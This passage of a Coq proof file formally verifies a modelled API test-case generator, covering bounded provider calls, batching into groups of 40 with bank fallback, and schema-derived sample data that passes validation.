Theorem small_generation_source :
  forall (api_url : string) (sample_data : dict) (num_tests : Z)
         (test_types : option (list string)) (has_auth : bool)
         (replies : nat -> Reply) (g : rng)
         (tests : list dict) (used : bool) (g' : rng),
    num_tests <= 50 ->
    generate_test_cases api_url sample_data num_tests test_types has_auth
      (Some replies) g = Ok (tests, used, g') ->
    if used
    then _generate_fallback_tests api_url sample_data num_tests has_auth g
         = Ok (tests, g')
    else g' = g
         /\ exists (k : nat) (parsed : json) (items : list json),
              (k < 3)%nat
              /\ replies k = ReplyJson parsed
              /\ tests_of_parsed parsed = Some (JArr items)
              /\ tests = slice_to (validated_cases items) num_tests.
Proof.
  intros api_url sample_data num_tests test_types has_auth replies g tests used g' Hn.
  unfold generate_test_cases.
  replace (50 <? num_tests) with false by (symmetry; apply Z.ltb_ge; lia).
  assert (Hw : fallback api_url sample_data num_tests has_auth g = Ok (tests, used, g') ->
               if used
               then _generate_fallback_tests api_url sample_data num_tests has_auth g
                    = Ok (tests, g')
               else g' = g
                    /\ exists (k : nat) (parsed : json) (items : list json),
                         (k < 3)%nat
                         /\ replies k = ReplyJson parsed
                         /\ tests_of_parsed parsed = Some (JArr items)
                         /\ tests = slice_to (validated_cases items) num_tests).
  { unfold fallback.
    destruct (_generate_fallback_tests api_url sample_data num_tests has_auth g)
      as [[ts g1] | e]; [| discriminate].
    cbn [bind fst snd]. now intros [= <- <- <-]. }
  destruct (attempts max_retries 0 num_tests replies) as [ts |] eqn:E; [| exact Hw].
  intros [= <- <- <-]. split; [reflexivity |].
  destruct (attempts_source _ _ _ _ _ E) as (k & parsed & items & Hk & Hrest).
  exists k, parsed, items. split; [unfold max_retries in Hk; lia | exact Hrest].
Qed.

Lemma attempts_ext (remaining attempt : nat) (num_tests : Z)
      (replies replies' : nat -> Reply) :
  (forall i, (attempt <= i < attempt + remaining)%nat -> replies i = replies' i) ->
  attempts remaining attempt num_tests replies
  = attempts remaining attempt num_tests replies'.
Proof.
  revert attempt. induction remaining as [| remaining IH]; intros attempt Hr;
    cbn [attempts]; [reflexivity |].
  rewrite <- (Hr attempt) by lia.
  destruct (attempt_step num_tests attempt (replies attempt)); try reflexivity.
  apply IH. intros i Hi. apply Hr. lia.
Qed.

Lemma run_batches_ext api_url sample_data test_types has_auth total
      (replies replies' : nat -> Reply) (counts : list Z) :
  forall (batch_idx : nat) (all_tests : list dict) (used : bool) (g : rng),
    (forall i, (batch_idx <= i < batch_idx + List.length counts)%nat ->
               replies i = replies' i) ->
    run_batches api_url sample_data test_types has_auth total (Some replies) counts
      batch_idx all_tests used g
    = run_batches api_url sample_data test_types has_auth total (Some replies') counts
        batch_idx all_tests used g.
Proof.
  induction counts as [| c counts IH]; intros batch_idx all_tests used g Hr;
    cbn [run_batches option_map]; [reflexivity |].
  cbn [List.length] in Hr. rewrite <- (Hr batch_idx) by lia.
  destruct (_generate_single_batch api_url sample_data c test_types has_auth
              (Z.of_nat batch_idx + 1) total (Some (replies batch_idx)) g)
    as [[[batch_tests batch_fallback] g1] | e]; [| reflexivity].
  cbn [bind]. apply IH. intros i Hi. apply Hr. lia.
Qed.

Lemma length_batch_counts (batches : nat) (remaining : Z) :
  List.length (batch_counts batches remaining) = batches.
Proof.
  revert remaining. induction batches as [| batches IH]; intros remaining;
    cbn [batch_counts List.length]; [reflexivity | now rewrite IH].
Qed.

(** X10.  The calls of the provider are bounded.  What
    [generate_test_cases] returns depends on the replies to the first three
    calls only when the count is at most 50, and on one reply for each batch
    of 40 above that: two providers that agree on those replies give the
    same result. *)
Theorem generation_calls_are_bounded :
  forall (api_url : string) (sample_data : dict) (num_tests : Z)
         (test_types : option (list string)) (has_auth : bool)
         (replies replies' : nat -> Reply) (g : rng),
    (forall i, (i < provider_calls num_tests)%nat -> replies i = replies' i) ->
    generate_test_cases api_url sample_data num_tests test_types has_auth
      (Some replies) g
    = generate_test_cases api_url sample_data num_tests test_types has_auth
        (Some replies') g.
Proof.
  intros api_url sample_data num_tests test_types has_auth replies replies' g.
  unfold provider_calls, generate_test_cases.
  destruct (50 <? num_tests); intros Hr.
  - unfold _generate_test_cases_batched.
    rewrite (run_batches_ext _ _ _ _ _ replies replies'); [reflexivity |].
    intros i Hi. apply Hr. unfold tests_per_batch in Hi.
    rewrite length_batch_counts in Hi. lia.
  - rewrite (attempts_ext _ _ _ replies replies'); [reflexivity |].
    intros i Hi. apply Hr. unfold max_retries in *. lia.
Qed.
End GeneratedFacts.

(** ** The batches of a large generation *)

Section BatchFacts.
Context `{Builtins}.

Lemma seventy_percent (c : Z) :
  1 <= c <= 40 ->
  exists threshold,
    py_mul_int_float c (float_lit 7 10) = Ok threshold
    /\ forall n, py_ge_int_float n threshold = (7 * c <=? 10 * n).
Proof.
  intros Hc.
  assert (Hall : forallb
            (fun c => match py_mul_int_float c (float_lit 7 10) with
                      | Ok (S754_finite false m e) =>
                          (e <? 0)
                          && (Zpos m <=? ((7 * c + 9) / 10) * 2 ^ (- e))
                          && (((7 * c + 9) / 10 - 1) * 2 ^ (- e) <? Zpos m)
                      | _ => false
                      end) (map Z.of_nat (seq 1 40)) = true)
    by (vm_compute; reflexivity).
  rewrite forallb_forall in Hall.
  specialize (Hall c).
  assert (Hin : In c (map Z.of_nat (seq 1 40))).
  { replace c with (Z.of_nat (Z.to_nat c)) by lia. apply in_map, in_seq. lia. }
  specialize (Hall Hin).
  destruct (py_mul_int_float c (float_lit 7 10)) as [[| | | [|] m e] | err];
    try discriminate.
  apply andb_true_iff in Hall as [Hall Hlo]. apply andb_true_iff in Hall as [He Hhi].
  apply Z.ltb_lt in He, Hlo. apply Z.leb_le in Hhi.
  eexists. split; [reflexivity |]. intros n.
  unfold py_ge_int_float, exact_of_float, exact_compare. cbn [cond_Zopp].
  rewrite Z.min_r by lia. rewrite Z.sub_diag, Z.mul_1_r, Z.sub_0_l.
  assert (Hp : 0 < 2 ^ (- e)) by (apply Z.pow_pos_nonneg; lia).
  pose proof (Z.div_mod (7 * c + 9) 10 ltac:(lia)) as Hd.
  pose proof (Z.mod_pos_bound (7 * c + 9) 10 ltac:(lia)) as Hm.
  set (t := (7 * c + 9) / 10) in *.
  destruct (Z.compare_spec (n * 2 ^ (- e)) (Z.pos m)) as [E | E | E];
    symmetry; [apply Z.leb_le | apply Z.leb_gt | apply Z.leb_le].
  - assert (t <= n) by nia. lia.
  - assert (n < t) by nia. lia.
  - assert (t <= n) by nia. lia.
Qed.


Lemma single_batch_made_of (api_url : string) (sample_data : dict)
      (batch_test_count : Z) (test_types : list string) (has_auth : bool)
      (batch_num total : Z) (reply : option Reply) (g : rng)
      (batch_tests : list dict) (batch_fallback : bool) (g' : rng) :
  1 <= batch_test_count <= 40 ->
  _generate_single_batch api_url sample_data batch_test_count test_types has_auth
    batch_num total reply g = Ok (batch_tests, batch_fallback, g') ->
  batch_made_of reply batch_test_count batch_tests batch_fallback.
Proof.
  intros Hc.
  assert (Hmax : 0 <= batch_test_count <= PY_SSIZE_T_MAX)
    by (unfold PY_SSIZE_T_MAX; lia).
  assert (Hw : fallback api_url sample_data batch_test_count has_auth g
               = Ok (batch_tests, batch_fallback, g') ->
               forallb bank_test batch_tests = true
               /\ len batch_tests = batch_test_count
               /\ batch_fallback = true).
  { intros E. destruct (fallback_ready _ _ _ _ _ _ _ _ E) as [-> Hb].
    destruct (fallback_ok api_url sample_data batch_test_count has_auth g Hmax)
      as (ft & fg & Ef & Hlen).
    rewrite Ef in E. injection E as <- <-.
    repeat split; [exact Hb | unfold len; lia]. }
  unfold _generate_single_batch, batch_made_of, provided. cbn zeta.
  destruct reply as [[ | | | | parsed] |]; try exact Hw.
  destruct (tests_of_parsed parsed) as [test_cases |]; [| exact Hw].
  destruct (py_iter test_cases) as [items | e]; [| exact Hw].
  destruct (seventy_percent batch_test_count Hc) as (threshold & -> & Hge).
  rewrite Hge.
  destruct (7 * batch_test_count <=? 10 * len (validated_cases items)) eqn:E.
  - intros [= <- <- <-]. now split.
  - apply Z.leb_gt in E.
    assert (Hlen0 : 0 <= len (validated_cases items)) by (unfold len; lia).
    assert (Hshort : 0 <= batch_test_count - len (validated_cases items)
                     <= PY_SSIZE_T_MAX) by (unfold PY_SSIZE_T_MAX; lia).
    destruct (fallback_tests_ok api_url sample_data
                (batch_test_count - len (validated_cases items)) has_auth g Hshort)
      as (c & extra & g1 & _ & Ee & Hlen & _).
    rewrite Ee. intros [= <- <- <-]. exists extra.
    split; [reflexivity |].
    split; [exact (fallback_tests_bank _ _ _ _ _ _ _ Ee) |].
    split; [| reflexivity].
    unfold len in *. rewrite length_app. lia.
Qed.

Lemma run_batches_made_of (api_url : string) (sample_data : dict)
      (test_types : list string) (has_auth : bool) (total : Z) (client : Client)
      (counts : list Z) :
  Forall (fun c => 1 <= c <= 40) counts ->
  forall (batch_idx : nat) (all_tests : list dict) (used : bool) (g : rng)
         (tests : list dict) (used' : bool) (g' : rng),
    run_batches api_url sample_data test_types has_auth total client counts
      batch_idx all_tests used g = Ok (tests, used', g') ->
    exists batches : list (list dict * bool),
      List.length batches = List.length counts
      /\ (forall (i : nat) (batch_test_count : Z) (batch_tests : list dict)
                 (batch_fallback : bool),
            nth_error counts i = Some batch_test_count ->
            nth_error batches i = Some (batch_tests, batch_fallback) ->
            batch_made_of (reply_of client (batch_idx + i)) batch_test_count
              batch_tests batch_fallback)
      /\ tests = all_tests ++ List.concat (map fst batches)
      /\ used' = used || existsb snd batches.
Proof.
  induction 1 as [| c counts Hc _ IH];
    intros batch_idx all_tests used g tests used' g'; cbn [run_batches].
  - intros [= <- <- <-]. exists []. cbn.
    split; [reflexivity |]. split; [intros [| i]; discriminate |].
    split; [now rewrite app_nil_r | now rewrite orb_false_r].
  - destruct (_generate_single_batch api_url sample_data c test_types has_auth
                (Z.of_nat batch_idx + 1) total
                (option_map (fun replies => replies batch_idx) client) g)
      as [[[batch_tests batch_fallback] g1] | e] eqn:E; [| discriminate].
    cbn [bind]. intros Er.
    destruct (IH _ _ _ _ _ _ _ Er) as (batches & Hlen & Hmade & -> & ->).
    exists ((batch_tests, batch_fallback) :: batches). cbn [List.length map List.concat fst existsb snd].
    split; [now rewrite Hlen |].
    split; [| split; [now rewrite <- app_assoc | now rewrite orb_assoc]].
    intros [| i] c' bt bu; cbn [nth_error].
    + intros [= <-] [= <- <-]. rewrite Nat.add_0_r.
      exact (single_batch_made_of _ _ _ _ _ _ _ _ _ _ _ _ Hc E).
    + intros Hi Hb. replace (batch_idx + S i)%nat with (S batch_idx + i)%nat by lia.
      exact (Hmade i c' bt bu Hi Hb).
Qed.

Lemma supplied_batches (client : Client) (counts : list Z) :
  Forall (fun c => 1 <= c <= 40) counts ->
  forall (batch_idx : nat) (batches : list (list dict * bool)),
    List.length batches = List.length counts ->
    (forall (i : nat) (batch_test_count : Z) (batch_tests : list dict)
            (batch_fallback : bool),
        nth_error counts i = Some batch_test_count ->
        nth_error batches i = Some (batch_tests, batch_fallback) ->
        batch_made_of (reply_of client (batch_idx + i)) batch_test_count
          batch_tests batch_fallback) ->
    (forall (i : nat) (batch_test_count : Z),
        nth_error counts i = Some batch_test_count ->
        exists valid_cases,
          provided (reply_of client (batch_idx + i)) = Some valid_cases
          /\ batch_test_count <= len valid_cases) ->
    List.concat (map fst batches)
    = flat_map (fun batch_idx =>
                  match provided (reply_of client batch_idx) with
                  | Some valid_cases => valid_cases
                  | None => []
                  end) (seq batch_idx (List.length counts))
    /\ existsb snd batches = false
    /\ sum_Z counts <= len (List.concat (map fst batches)).
Proof.
  induction 1 as [| c counts Hc _ IH]; intros batch_idx [| [bt bu] batches];
    cbn [List.length]; try discriminate.
  - intros _ _ _. cbn. repeat split. lia.
  - intros [= Hlen] Hmade Hall.
    destruct (IH (S batch_idx) batches Hlen) as (Econcat & Eused & Hsum).
    + intros i c' bt' bu' Hi Hb.
      replace (S batch_idx + i)%nat with (batch_idx + S i)%nat by lia.
      exact (Hmade (S i) c' bt' bu' Hi Hb).
    + intros i c' Hi.
      replace (S batch_idx + i)%nat with (batch_idx + S i)%nat by lia.
      exact (Hall (S i) c' Hi).
    + specialize (Hmade 0%nat c bt bu eq_refl eq_refl).
      destruct (Hall 0%nat c eq_refl) as (valid_cases & Ev & Hv).
      rewrite Nat.add_0_r in Hmade, Ev. unfold batch_made_of in Hmade.
      rewrite Ev in Hmade.
      replace (7 * c <=? 10 * len valid_cases) with true in Hmade
        by (symmetry; apply Z.leb_le; lia).
      destruct Hmade as [-> ->].
      cbn [map List.concat fst existsb snd seq flat_map sum_Z fold_right orb].
      rewrite Ev, Econcat. split; [reflexivity |]. split; [exact Eused |].
      rewrite <- Econcat. unfold len in *. rewrite length_app.
      fold (sum_Z counts). lia.
Qed.

(** C9. For every count [num > 50] (120 for one) the large path splits
    the request into [ceil(num / 40)] batches of at least 1 and at most 40
    tests that add up to [num], three batches of 40 for [num = 120], and
    the list returned has exactly [num] tests whatever the provider replies
    to each batch.  The list is made of the batches in their order: a batch
    is what the provider supplied for it when that is at least seven tenths
    of its count, and else is filled up to its count from the bank; when the
    batches together hold fewer than [num] tests the shortfall is appended
    from the bank, and the fallback flag is set; when they hold [num] or
    more, the first [num] are returned.  So a provider that supplies every
    batch in full has its own tests returned, the first [num] of them, and
    the flag stays clear. *)
Theorem batched_generation_returns_exactly_num :
  forall (api_url : string) (sample_data : dict) (num_tests : Z)
         (test_types : option (list string)) (has_auth : bool) (client : Client)
         (g : rng),
    50 < num_tests <= PY_SSIZE_T_MAX ->
    List.length (tests_per_batch num_tests) = Z.to_nat ((num_tests + 39) / 40)
    /\ Forall (fun c => 1 <= c <= 40) (tests_per_batch num_tests)
    /\ sum_Z (tests_per_batch num_tests) = num_tests
    /\ (num_tests = 120 -> tests_per_batch num_tests = [40; 40; 40])
    /\ exists tests used g',
         generate_test_cases api_url sample_data num_tests test_types has_auth client g
         = Ok (tests, used, g')
         /\ List.length tests = Z.to_nat num_tests
         /\ (exists batches : list (list dict * bool),
               List.length batches = List.length (tests_per_batch num_tests)
               /\ (forall (batch_idx : nat) (batch_test_count : Z)
                          (batch_tests : list dict) (batch_fallback : bool),
                     nth_error (tests_per_batch num_tests) batch_idx
                     = Some batch_test_count ->
                     nth_error batches batch_idx = Some (batch_tests, batch_fallback) ->
                     batch_made_of (reply_of client batch_idx) batch_test_count
                       batch_tests batch_fallback)
               /\ (num_tests <= len (List.concat (map fst batches)) ->
                   tests = firstn (Z.to_nat num_tests) (List.concat (map fst batches))
                   /\ used = existsb snd batches)
               /\ (len (List.concat (map fst batches)) < num_tests ->
                   exists extra : list dict,
                     tests = List.concat (map fst batches) ++ extra
                     /\ forallb bank_test extra = true
                     /\ used = true))
         /\ ((forall (batch_idx : nat) (batch_test_count : Z),
                 nth_error (tests_per_batch num_tests) batch_idx
                 = Some batch_test_count ->
                 exists valid_cases,
                   provided (reply_of client batch_idx) = Some valid_cases
                   /\ batch_test_count <= len valid_cases) ->
             tests = firstn (Z.to_nat num_tests)
                       (provided_by client (List.length (tests_per_batch num_tests)))
             /\ used = false).
Proof.
  intros api_url sample_data num_tests test_types has_auth client g Hn.
  destruct (tests_per_batch_spec num_tests ltac:(lia)) as (Hf & Hs & Hl).
  split; [exact Hl |]. split; [exact Hf |]. split; [exact Hs |].
  split; [intros ->; reflexivity |].
  unfold generate_test_cases.
  replace (50 <? num_tests) with true by (symmetry; apply Z.ltb_lt; lia).
  set (types := match test_types with Some types => types | None => _ end).
  unfold _generate_test_cases_batched.
  destruct (run_batches_ok api_url sample_data types has_auth
              (total_batches num_tests) client (tests_per_batch num_tests)
              ltac:(eapply Forall_impl; [| exact Hf]; unfold PY_SSIZE_T_MAX; cbn beta; lia)
              0%nat [] false g) as (all_tests & used0 & g1 & Er).
  rewrite Er. cbn [bind].
  destruct (run_batches_made_of _ _ _ _ _ _ _ Hf _ _ _ _ _ _ _ Er)
    as (batches & Hlen & Hmade & Eall & Eused).
  cbn [app orb] in Eall, Eused. subst all_tests used0.
  assert (Hsup :
    (forall (batch_idx : nat) (batch_test_count : Z),
        nth_error (tests_per_batch num_tests) batch_idx = Some batch_test_count ->
        exists valid_cases,
          provided (reply_of client batch_idx) = Some valid_cases
          /\ batch_test_count <= len valid_cases) ->
    List.concat (map fst batches)
    = provided_by client (List.length (tests_per_batch num_tests))
    /\ existsb snd batches = false
    /\ num_tests <= len (List.concat (map fst batches))).
  { intros Hall.
    destruct (supplied_batches client _ Hf 0%nat batches Hlen Hmade Hall)
      as (Ec & Eu & Hsum).
    rewrite Hs in Hsum. now repeat split. }
  destruct (len (List.concat (map fst batches)) <? num_tests) eqn:E.
  - apply Z.ltb_lt in E.
    destruct (fallback_tests_ok api_url sample_data
                (num_tests - len (List.concat (map fst batches))) has_auth g1
                ltac:(unfold len in *; lia))
      as (c & extra & g2 & _ & Ee & Hlene & _).
    rewrite Ee. cbn [bind fst snd].
    assert (Ecut : slice_to (List.concat (map fst batches) ++ extra) num_tests
                   = List.concat (map fst batches) ++ extra).
    { unfold slice_to. replace (0 <=? num_tests) with true
        by (symmetry; apply Z.leb_le; lia).
      apply firstn_all2. rewrite length_app. unfold len in *. lia. }
    rewrite Ecut. eexists _, _, _. split; [reflexivity |].
    split; [rewrite length_app; unfold len in *; lia |].
    split.
    + exists batches. split; [exact Hlen |]. split; [exact Hmade |].
      split; [intros Hge; lia |]. intros _. exists extra.
      split; [reflexivity |].
      split; [exact (fallback_tests_bank _ _ _ _ _ _ _ Ee) | reflexivity].
    + intros Hall. destruct (Hsup Hall) as (_ & _ & Hge). lia.
  - apply Z.ltb_ge in E. eexists _, _, _. split; [reflexivity |].
    assert (Ecut : slice_to (List.concat (map fst batches)) num_tests
                   = firstn (Z.to_nat num_tests) (List.concat (map fst batches))).
    { unfold slice_to. now replace (0 <=? num_tests) with true
        by (symmetry; apply Z.leb_le; lia). }
    rewrite Ecut.
    split; [rewrite length_firstn; unfold len in *; lia |].
    split.
    + exists batches. split; [exact Hlen |]. split; [exact Hmade |].
      split; [intros _; now split |]. intros Hlt; lia.
    + intros Hall. destruct (Hsup Hall) as (Ec & Eu & _).
      now rewrite <- Ec, Eu.
Qed.

End BatchFacts.

Lemma batched_generation_witness :
  exists (tests : list dict) (g' : rng),
    generate_test_cases (H := plain_builtins) "http://example.com" [("id", JInt 1)]
      120 None false (Some (replies_with 40)) [1; 2; 3]%nat = Ok (tests, false, g')
    /\ List.length tests = 120%nat
    /\ tests = firstn 120 (provided_by (H := plain_builtins) (Some (replies_with 40)) 3).
Proof.
  destruct (batched_generation_returns_exactly_num (H := plain_builtins)
              "http://example.com" [("id", JInt 1)] 120 None false
              (Some (replies_with 40)) [1; 2; 3]%nat
              ltac:(unfold PY_SSIZE_T_MAX; lia))
    as (_ & _ & _ & _ & tests & used & g' & E & Hlen & _ & Hsup).
  destruct Hsup as [Et Eu].
  - change (tests_per_batch 120) with [40; 40; 40].
    intros [| [| [| batch_idx]]] c; cbn [nth_error];
      [| | | destruct batch_idx; discriminate];
      intros [= <-]; eexists; (split; [reflexivity | vm_compute; discriminate]).
  - exists tests, g'. rewrite Eu in E. split; [exact E |]. split; [exact Hlen | exact Et].
Defined.

Lemma generated_tests_are_ready_witness :
  exists tests used g',
    generate_test_cases (H := plain_builtins) "http://localhost:8000/items"
      [("name", JStr "x")] 60 None true
      (Some (fun _ => ReplyJson (JArr [JObj [("method", JStr "GET")]]))) [5; 8]%nat
    = Ok (tests, used, g')
    /\ forall t, In t tests -> runner_ready t = true.
Proof.
  apply (generated_tests_are_ready (H := plain_builtins)).
  unfold PY_SSIZE_T_MAX. lia.
Defined.

Lemma small_generation_source_witness :
  ([] : rng) = []
  /\ exists (k : nat) (parsed : json) (items : list json),
       (k < 3)%nat
       /\ (fun i : nat =>
             match i with
             | O => ReplyMalformed
             | _ => ReplyJson (JObj [("tests", JArr [JObj [("endpoint", JStr "/a")];
                                                     JInt 7])])
             end) k = ReplyJson parsed
       /\ tests_of_parsed parsed = Some (JArr items)
       /\ [[("endpoint", JStr "/a"); ("method", JStr "GET");
            ("expected_status", JInt 200); ("description", JStr "GET test");
            ("data", JNull); ("category", JStr "other"); ("params", JNull);
            ("validate_body", JBool false)]]
          = slice_to (validated_cases (H := plain_builtins) items) 1.
Proof.
  apply (small_generation_source (H := plain_builtins) "http://localhost:8000/items"
           [] 1 None false
           (fun i : nat =>
              match i with
              | O => ReplyMalformed
              | _ => ReplyJson (JObj [("tests", JArr [JObj [("endpoint", JStr "/a")];
                                                      JInt 7])])
              end)
           [] _ false []); [lia | vm_compute; reflexivity].
Defined.

Lemma generation_calls_are_bounded_witness :
  generate_test_cases (H := plain_builtins) "http://localhost:8000/items" [] 10 None
    false
    (Some (fun i : nat =>
             match i with
             | O | 1%nat | 2%nat => ReplyBlank
             | _ => ReplyJson (JArr [])
             end)) []
  = generate_test_cases (H := plain_builtins) "http://localhost:8000/items" [] 10 None
      false (Some (fun _ => ReplyBlank)) [].
Proof.
  apply (generation_calls_are_bounded (H := plain_builtins)).
  intros [| [| [| i]]] Hi; try reflexivity.
  vm_compute in Hi. lia.
Defined.

(** ** Sample data generated from a schema *)

Lemma sample_properties_eq (kvs : dict) :
  (fix sample_properties (kvs : list (string * json)) : result dict :=
     match kvs with
     | [] => Ok []
     | (k, properties) :: rest =>
         if String.eqb "properties" k then
           match properties with
           | JObj items => sample_fields items []
           | _ => Raise (AttributeError ("'" +++ type_name properties
                                         +++ "' object has no attribute 'items'"))
           end
         else sample_properties rest
     end) kvs
  = (properties <- py_get (JObj kvs) "properties" (JObj []) ;;
     items <- py_items properties ;;
     sample_fields items []).
Proof.
  cbn [py_get bind].
  induction kvs as [| [k v] kvs IH]; [reflexivity |].
  cbn [dict_get]. destruct (String.eqb "properties" k); [| exact IH].
  destruct v; reflexivity.
Qed.

(** The recursion on the structure of the schema computes what the two
    functions of the source compute by calling each other. *)
Lemma generate_sample_value_eq (schema : json) :
  generate_sample_value schema = generate_sample_value_source schema.
Proof.
  destruct schema as [ | b | n | x | s | xs | kvs ]; try reflexivity.
  unfold generate_sample_value_source, generate_sample_from_schema.
  cbn [py_get bind].
  change (generate_sample_value (JObj kvs))
    with (let field_type :=
            match dict_get "type" kvs with Some t => t | None => JStr "string" end in
          let example (default : json) :=
            match dict_get "example" kvs with Some v => v | None => default end in
          if py_eq field_type (JStr "string") then Ok (example (JStr "test-string"))
          else if py_eq field_type (JStr "number") then
            Ok (example (JFloat (float_lit 12345 100)))
          else if py_eq field_type (JStr "integer") then Ok (example (JInt 123))
          else if py_eq field_type (JStr "boolean") then Ok (example (JBool true))
          else if py_eq field_type (JStr "object") then
            sample <- (fix sample_properties (kvs : list (string * json)) : result dict :=
                         match kvs with
                         | [] => Ok []
                         | (k, properties) :: rest =>
                             if String.eqb "properties" k then
                               match properties with
                               | JObj items => sample_fields items []
                               | _ => Raise (AttributeError
                                               ("'" +++ type_name properties
                                                +++ "' object has no attribute 'items'"))
                               end
                             else sample_properties rest
                         end) kvs ;; Ok (JObj sample)
          else if py_eq field_type (JStr "array") then Ok (JArr [])
          else Ok JNull).
  cbn zeta. rewrite sample_properties_eq. cbn [py_get bind].
  destruct (dict_get "type" kvs) as [t |] eqn:Et; [| reflexivity].
  destruct (py_eq t (JStr "string")); [reflexivity |].
  destruct (py_eq t (JStr "number")); [reflexivity |].
  destruct (py_eq t (JStr "integer")); [reflexivity |].
  destruct (py_eq t (JStr "boolean")); [reflexivity |].
  destruct (py_eq t (JStr "object")) eqn:Eo; [| reflexivity].
  destruct (py_items match dict_get "properties" kvs with
                     | Some v => v
                     | None => JObj []
                     end) as [items | e]; reflexivity.
Qed.

Lemma py_eq_str (t : json) (s : string) :
  py_eq t (JStr s) = true -> t = JStr s.
Proof.
  destruct t; cbn; try discriminate.
  intros E. apply String.eqb_eq in E. now subst.
Qed.

Lemma sample_fields_keeps (items : dict) :
  forall (sample d : dict) (k : string) (v : json),
    sample_fields items sample = Ok d ->
    dict_get k sample = Some v -> dict_has k items = false ->
    dict_get k d = Some v.
Proof.
  induction items as [| [f fs] items IH]; intros sample d k v; cbn [sample_fields].
  - now intros [= <-].
  - destruct (generate_sample_value fs) as [x | e]; [| discriminate]. cbn [bind].
    unfold dict_has. cbn [dict_get].
    destruct (String.eqb_spec k f) as [-> | Hn]; [discriminate |].
    intros E Hk Hh. apply (IH _ _ _ _ E); [| exact Hh].
    now rewrite dict_get_set_other.
Qed.

(** What the loop over the properties leaves in the sample. *)
Lemma sample_fields_value (items : dict) :
  forall (sample d : dict) (f : string) (fs : json),
    nodup_keys (dict_keys items) = true ->
    sample_fields items sample = Ok d ->
    In (f, fs) items ->
    exists v, generate_sample_value fs = Ok v /\ dict_get f d = Some v.
Proof.
  induction items as [| [f0 fs0] items IH]; intros sample d f fs; [intros _ _ [] |].
  cbn [dict_keys map fst nodup_keys sample_fields].
  intros Hnd E Hin. apply andb_prop in Hnd as [Hfresh Hnd].
  destruct (generate_sample_value fs0) as [x |] eqn:Ex; [| discriminate].
  cbn [bind] in E.
  destruct Hin as [[= <- <-] | Hin].
  - exists x. split; [exact Ex |].
    apply (sample_fields_keeps items _ _ _ _ E); [apply dict_get_set_same |].
    unfold dict_has. destruct (dict_get f0 items) as [y |] eqn:Ey; [| reflexivity].
    apply dict_get_In in Ey.
    assert (Hm : mem_string f0 (map fst items) = true).
    { apply mem_string_In. apply in_map_iff. now exists (f0, y). }
    fold (dict_keys items) in Hfresh. unfold dict_keys in Hfresh.
    rewrite Hm in Hfresh. discriminate.
  - exact (IH _ _ _ _ Hnd E Hin).
Qed.

Section SampleFacts.
Context `{Builtins}.

(** A sample value passes the check of its own schema, unless the schema
    carries an example. *)
Lemma sample_value_passes (fs v path : json) :
  generate_sample_value fs = Ok v ->
  (forall d, fs = JObj d -> dict_has "example" d = false) ->
  validate_field v fs path = Ok [].
Proof.
  destruct fs as [ | b | n | x | s | xs | d ]; try discriminate.
  intros E Hex. specialize (Hex d eq_refl). unfold dict_has in Hex.
  rewrite generate_sample_value_eq in E.
  unfold generate_sample_value_source, generate_sample_from_schema in E.
  unfold validate_field. cbn [py_get bind] in *.
  destruct (dict_get "example" d); [discriminate |].
  destruct (dict_get "type" d) as [t |]; [| reflexivity].
  destruct (py_eq t (JStr "string")) eqn:E1.
  { injection E as <-. apply py_eq_str in E1 as ->. reflexivity. }
  destruct (py_eq t (JStr "number")) eqn:E2.
  { injection E as <-. apply py_eq_str in E2 as ->. reflexivity. }
  destruct (py_eq t (JStr "integer")) eqn:E3.
  { injection E as <-. apply py_eq_str in E3 as ->. reflexivity. }
  destruct (py_eq t (JStr "boolean")) eqn:E4.
  { injection E as <-. apply py_eq_str in E4 as ->. reflexivity. }
  destruct (py_eq t (JStr "object")) eqn:E5.
  { apply py_eq_str in E5 as ->.
    destruct (py_items match dict_get "properties" d with
                       | Some v => v
                       | None => JObj []
                       end) as [items | e]; [| discriminate].
    cbn [bind] in E. destruct (sample_fields items []) as [sample | e];
      [| discriminate].
    cbn [bind] in E. injection E as <-. reflexivity. }
  destruct (py_eq t (JStr "array")) eqn:E6.
  { injection E as <-. apply py_eq_str in E6 as ->. reflexivity. }
  cbn [andb]. reflexivity.
Qed.

(** X11.  The sample of a schema is valid against it.  For a schema of type
    [object] whose properties carry no example and whose required names are
    all among its properties, the value that [generate_sample_from_schema]
    returns gets no violation from [validate_against_schema]: each property
    receives a value of the type its schema names. *)
Theorem sample_passes_its_schema :
  forall (schema props : dict) (required : list json) (sample : json),
    dict_get "type" schema = Some (JStr "object") ->
    py_get (JObj schema) "properties" (JObj []) = Ok (JObj props) ->
    py_get (JObj schema) "required" (JArr []) = Ok (JArr required) ->
    nodup_keys (dict_keys props) = true ->
    (forall f d, In (f, JObj d) props -> dict_has "example" d = false) ->
    (forall r, In r required -> exists f, r = JStr f /\ dict_has f props = true) ->
    generate_sample_from_schema (JObj schema) = Ok sample ->
    validate_against_schema sample (JObj schema) = [].
Proof.
  intros schema props required sample Ht Hp Hr Hnd Hex Hreq.
  unfold generate_sample_from_schema. cbn [py_get bind] in *.
  rewrite Ht. injection Hp as Hp. injection Hr as Hr. rewrite Hp.
  change (py_eq (JStr "object") (JStr "object")) with true. cbv iota.
  cbn [py_items bind].
  destruct (sample_fields props []) as [d |] eqn:Ed; [| discriminate].
  cbn [bind]. intros [= <-].
  assert (Hstr : forallb isinstance_str required = true).
  { apply forallb_forall. intros r Hin. destruct (Hreq r Hin) as (f & -> & _).
    reflexivity. }
  apply (proj2 (validation_passes_clean schema d props required Ht
                  ltac:(cbn [py_get]; now rewrite Hr) Hstr
                  ltac:(cbn [py_get]; now rewrite Hp))).
  split.
  - intros f Hin. destruct (Hreq (JStr f) Hin) as (f' & [= <-] & Hh).
    unfold dict_has in *. destruct (dict_get f props) as [fs |] eqn:Ef; [| discriminate].
    apply dict_get_In in Ef.
    destruct (sample_fields_value props [] d f fs Hnd Ed Ef) as (v & _ & ->).
    reflexivity.
  - intros f fs v Hin Hv.
    destruct (sample_fields_value props [] d f fs Hnd Ed Hin) as (v' & Ev & Hv').
    rewrite Hv in Hv'. injection Hv' as <-.
    apply sample_value_passes; [exact Ev |].
    intros d' ->. exact (Hex f d' Hin).
Qed.
End SampleFacts.

Lemma sample_passes_its_schema_witness :
  validate_against_schema (H := plain_builtins)
    (JObj [("id", JInt 123); ("price", JFloat (float_lit 12345 100));
           ("owner", JObj [("name", JStr "test-string")]); ("tags", JArr [])])
    (JObj [("type", JStr "object"); ("required", JArr [JStr "id"; JStr "owner"]);
           ("properties",
            JObj [("id", JObj [("type", JStr "integer")]);
                  ("price", JObj [("type", JStr "number")]);
                  ("owner", JObj [("type", JStr "object");
                                  ("properties", JObj [("name", JObj [])])]);
